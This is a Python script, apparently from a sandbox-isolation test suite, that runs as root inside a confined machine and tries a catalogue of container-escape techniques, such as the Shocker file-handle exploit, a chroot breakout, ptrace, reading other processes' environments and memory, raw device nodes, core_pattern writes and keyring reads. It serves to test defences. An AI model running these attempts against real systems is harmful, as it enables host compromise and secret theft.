"""What a hostile program in a machine tries; run there as root, by the machine's own python3.

Arguments: what it is after, as JSON, and the kinds of attacks. Prints for each attack what
stopped it, or `SUCCEEDED`. Only those that `besieged` calls harmless may run without walls.
"""

import contextlib
import ctypes
import json
import os
import signal
import socket
import stat
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

TARGET = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(None, use_errno=True)
RESULTS: dict[str, str] = {}


def attack(name: str, attempt: Callable[[], object]) -> None:
    try:
        found = attempt()
    except (OSError, LookupError, ValueError) as error:
        RESULTS[name] = f"{type(error).__name__}: {error}"
    else:
        RESULTS[name] = "SUCCEEDED" if found else "nothing came of it"


def call(function: str, *arguments: object) -> bool:
    """A function of the C library; failure is an OSError."""
    if getattr(LIBC, function)(*arguments) < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return True


def syscall(number: int, *arguments: object) -> int:
    result: int = LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def network() -> None:
    port = TARGET["port"]
    for address in TARGET["addresses"]:
        attack(f"connect to {address}", partial(socket.create_connection, (address, port), 5))
    proxy = os.environ.get("https_proxy", "").rpartition(":")[2]
    for address in [*TARGET["addresses"], "localhost"] if proxy else []:
        attack(f"proxy to {address}", partial(_through, int(proxy), address, port))
    attack("abstract socket", lambda: _abstract(TARGET["abstract"]))
    attack("raw socket to loopback", lambda: _sees_traffic(port))


def _through(proxy: int, address: str, port: int) -> bool:
    host = f"[{address}]" if ":" in address else address
    with socket.create_connection(("127.0.0.1", proxy), 30) as sock:
        sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
        return b" 200 " in sock.recv(999).partition(b"\r\n")[0]


def _abstract(name: str) -> bool:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(f"\0{name}")
    return True


def _sees_traffic(port: int) -> bool:
    """Whether the interface that a raw socket hears is this computer's: its talk goes on there."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as sock:
        sock.settimeout(0.5)
        return port in sock.recv(999)[20:24]


def processes() -> None:
    pid = TARGET["pid"]
    attack("signal", lambda: call("kill", pid, 0) and _is_target(pid))
    attack("see in /proc", lambda: TARGET["secret"] in _all_of_proc())
    attack("pidfd", lambda: os.pidfd_open(pid) and _is_target(pid))
    attack("ptrace", lambda: _is_target(pid) and call("ptrace", 16, pid, 0, 0))
    attack("read memory", lambda: _is_target(pid) and _readable(f"/proc/{pid}/mem"))


def everybody() -> None:
    """Inside walls only: they say who has died."""
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGTERM)


def _is_target(pid: int) -> bool:
    return TARGET["secret"] in Path(f"/proc/{pid}/environ").read_text()


def _all_of_proc() -> str:
    found = ""
    for file in [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]:
        if file.parent.name != str(os.getpid()):
            with contextlib.suppress(OSError):
                found += file.read_text(errors="replace")
    return found


def namespaces() -> None:
    for kind, inode in TARGET["namespaces"].items():
        for link in Path("/proc").glob(f"[0-9]*/ns/{kind}"):
            attack(
                f"{kind} namespace of this computer by {link}",
                partial(_is_inode, link, inode),
            )
    attack("setns to nowhere better", lambda: _setns_all())


def _is_inode(link: Path, inode: int) -> bool:
    return link.stat().st_ino == inode


def _setns_all() -> bool:
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    call("setns", fd, 0)
    return Path(TARGET["file"]).exists()


def files() -> None:
    path = TARGET["file"]
    for way in (path, f"/proc/1/root{path}", f"/proc/self/root/../..{path}", f"/proc/1/cwd{path}"):
        attack(f"read {way}", partial(_has_secret, Path(way)))
    for home in TARGET["homes"]:
        attack(f"files in {home}", partial(_any_in, Path(home)))
    attack("file handle", _by_handle)
    attack("out of a chroot", _out_of_chroot)
    attack("sockets of services", lambda: [p for p in _walk("/run", "/var/run") if p.is_socket()])


def _has_secret(path: Path) -> bool:
    return TARGET["secret"] in path.read_text()


def _any_in(directory: Path) -> bool:
    return any(directory.iterdir())


def _walk(*tops: str) -> list[Path]:
    return [Path(top, n) for t in tops for top, _, names in os.walk(t) for n in names]


def _by_handle() -> bool:
    """Open the root of the file system by number, past all paths (known as Shocker)."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, b"\x08\x00\x00\x00\x01\x00\x00\x00" + b"\x02" + b"\x00" * 7, 16)
    mount = os.open("/", os.O_RDONLY)
    return call("open_by_handle_at", mount, handle, os.O_RDONLY)


def _out_of_chroot() -> bool:
    """The classic: keep a directory open, move the root below it, and climb."""
    pid = os.fork()
    if pid == 0:
        found = False
        try:
            Path("/tmp/jail").mkdir(exist_ok=True)
            outside = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/jail")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            found = Path(TARGET["file"]).exists()
        finally:
            os._exit(1 if found else 0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) != 0


def devices() -> None:
    numbers = {"disk": tuple(TARGET["disk"]), "sda": (8, 0), "vda": (254, 0)}
    for name, number in numbers.items():
        attack(f"block device {name}", partial(_node, name, stat.S_IFBLK, number))
    for name, number in {"mem": (1, 1), "kmsg": (1, 11), "tun": (10, 200)}.items():
        attack(f"device {name}", partial(_node, name, stat.S_IFCHR, number))
        attack(f"/dev/{name}", partial(_readable, f"/dev/{name}"))
    attack("/proc/kcore", lambda: Path("/proc/kcore").read_bytes()[:1])


def _node(name: str, kind: int, number: tuple[int, int]) -> bool:
    path = f"/tmp/node-{name}"
    os.mknod(path, kind | 0o666, os.makedev(*number))
    with Path(path).open("rb", buffering=0) as device:
        return bool(device.read(1))


def mounts() -> None:
    null = ctypes.c_void_p()
    attack("mount proc", lambda: call("mount", b"proc", b"/mnt", b"proc", 0, null))
    attack("mount tmpfs", lambda: call("mount", b"x", b"/mnt", b"tmpfs", 0, null))
    attack("mount sysfs", lambda: call("mount", b"x", b"/mnt", b"sysfs", 0, null))
    attack("bind", lambda: call("mount", b"/", b"/mnt", null, 4096 | 16384, null))
    attack("remount", lambda: call("mount", null, b"/proc/sys", null, 32 | 4096, null))
    attack("unmount", lambda: call("umount2", b"/proc/sys", 2))
    attack("pivot_root", lambda: syscall(155, b"/", b"/mnt") == 0)
    attack("new mount API", lambda: syscall(430, b"tmpfs", 0))
    attack("own namespaces", lambda: _in_own_namespaces("/proc/sys/kernel/core_pattern"))


def _in_own_namespaces(path: str) -> bool:
    """As root of a user namespace of its own, uncover what is covered."""
    pid = os.fork()
    if pid == 0:
        done = False
        try:
            call("unshare", 0x10000000 | 0x00020000)
            for covered in (b"/proc/sys", b"/proc"):
                LIBC.umount2(covered, 2)
            done = _writable(path)
        finally:
            os._exit(1 if done else 0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 1


def _readable(path: str) -> bool:
    os.close(os.open(path, os.O_RDONLY))
    return True


def _writable(path: str) -> bool:
    os.close(os.open(path, os.O_WRONLY))
    return True


def kernel() -> None:
    for name in (
        *("sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/kernel/randomize_va_space"),
        *("sys/vm/overcommit_memory", "sys/fs/suid_dumpable", "sysrq-trigger", "irq", "bus"),
    ):
        attack(f"write /proc/{name}", partial(_writable, f"/proc/{name}"))
    attack("write anything of /sys", lambda: [p for p in _walk("/sys") if _writable(str(p))])
    attack("load a module", lambda: syscall(175, b"x", 1, b"") == 0)
    attack("kexec", lambda: syscall(246, 0, 0, None, 0) == 0)
    attack("watch all of a processor", lambda: syscall(298, _perf_event(), -1, 0, -1, 0))
    attack("swapon", lambda: call("swapon", b"/tmp/x", 0))
    attack("set the clock", lambda: call("settimeofday", (ctypes.c_long * 2)(1, 0), None))
    attack("I/O ports", lambda: syscall(172, 3) == 0)
    attack("accounting", lambda: call("acct", b"/tmp/x"))
    attack("kernel log", lambda: call("klogctl", 3, ctypes.create_string_buffer(99), 99))
    attack("open file limit of the system", lambda: _writable("/proc/sys/fs/file-max"))


def _perf_event() -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(b"\x00" * 4 + b"\x80\x00\x00\x00", 128)


def keys() -> None:
    user, name = b"user", TARGET["key"].encode()
    for ring in (-1, -2, -3, -4, -5):
        attack(f"key of ring {ring}", partial(_key_of, ring, user, name))
    attack("request_key", lambda: syscall(249, user, name, None, 0) > 0)
    attack("key by number", lambda: syscall(250, 11, TARGET["key_number"], None, 0) >= 0)
    attack("list of keys", lambda: TARGET["key"] in Path("/proc/keys").read_text())


def _key_of(ring: int, kind: bytes, name: bytes) -> bool:
    return syscall(250, 10, ring, kind, name, 0) > 0


def main() -> None:
    for kind in sys.argv[2:]:
        globals()[kind]()
    capabilities = {
        line.split()[0]: line.split()[1]
        for line in Path("/proc/self/status").read_text().splitlines()
        if line.startswith("Cap")
    }
    print(json.dumps({"results": RESULTS, "capabilities": capabilities}))


main()
